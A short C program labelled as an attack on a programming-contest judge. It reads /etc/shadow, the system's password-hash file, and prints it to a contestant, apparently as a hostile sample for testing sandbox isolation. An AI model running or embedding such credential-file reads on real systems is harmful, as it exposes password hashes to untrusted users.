/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attack: the passwords of the judge's machine, printed where the contestant will see them. */
#include <stdio.h>

int main(void)
{
	char line[256];
	FILE *shadow = fopen("/etc/shadow", "r");

	if (!shadow) {
		perror("/etc/shadow");
		return 1;
	}
	while (fgets(line, sizeof(line), shadow))
		fputs(line, stdout);
	fclose(shadow);
	return 0;
}
